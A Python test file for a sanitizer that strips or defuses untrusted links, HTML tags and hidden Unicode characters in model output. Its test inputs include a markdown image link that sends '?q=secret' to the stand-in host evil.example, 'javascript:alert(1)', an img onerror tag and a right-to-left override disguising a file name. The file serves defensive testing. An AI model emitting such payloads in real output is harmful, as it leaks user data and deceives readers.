"""What a model wrote leaves without addresses that anything would open, tags, or signs that hide."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from assistant.generation.harmless import harmless

KNOWN = "https://arxiv.org/abs/2305.15719"
PIECES = st.sampled_from(
    ["![x](", "](http://evil.example/?q=", ")", "[1]", "[a]", "[a]: http://evil.example", "\n", "<img src=", ">", "`",
     "javascript:alert(1)", "www.evil.example", "words ", "<http://evil.example>", "\u202e", "[", "]", "(", "!", KNOWN, "\\"]
)  # fmt: skip


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("See ![x](http://evil.example/?q=secret) here.", "See x here."),
        ("See [this](http://evil.example/?q=secret).", "See this."),
        (f"See [the paper]({KNOWN}).", f"See [the paper]({KNOWN})."),
        (f"At {KNOWN}.", f"At {KNOWN}."),
        ("At http://evil.example/a.", "At http[:]//evil.example/a."),
        ("At <http://evil.example/a>.", "At http[:]//evil.example/a."),
        ("[x]: http://evil.example\nWords [1].", "x – http[:]//evil.example\nWords [1]."),
        ("[click here][x] now", "click here now"),
        ("It is so [1][2].", "It is so [1][2]."),
        ("a <img src=x onerror=y> b", "a ‹img src=x onerror=y> b"),
        ("p < 0.05 and x<3", "p < 0.05 and x<3"),
        ("user\u202egnp.exe\u200f", "usergnp.exe"),
        ("bell\x07 and line\nbreak", "bell and line\nbreak"),
        ("`http://in.code`", "`http[:]//in.code`"),
        ("www.evil.example", "www[.]evil.example"),
    ],
)
def test_addresses_tags_and_hidden_signs(text: str, shown: str) -> None:
    assert harmless(text, {KNOWN}) == shown


@given(st.lists(PIECES, max_size=14).map("".join))
def test_no_reader_of_markdown_finds_a_foreign_address(text: str) -> None:
    html = MarkdownIt("gfm-like", {"linkify": False, "html": True}).render(harmless(text, {KNOWN}))
    assert "<img" not in html
    assert set(re.findall(r'href="([^"]*)"', html)) <= {KNOWN}


@given(
    st.text(
        alphabet=st.characters(exclude_characters="<[]()!`:/.\\", exclude_categories=("Cc", "Cs", "Cf")), max_size=200
    )
)
def test_plain_words_stay_as_they_are(text: str) -> None:
    assert harmless(text) == text
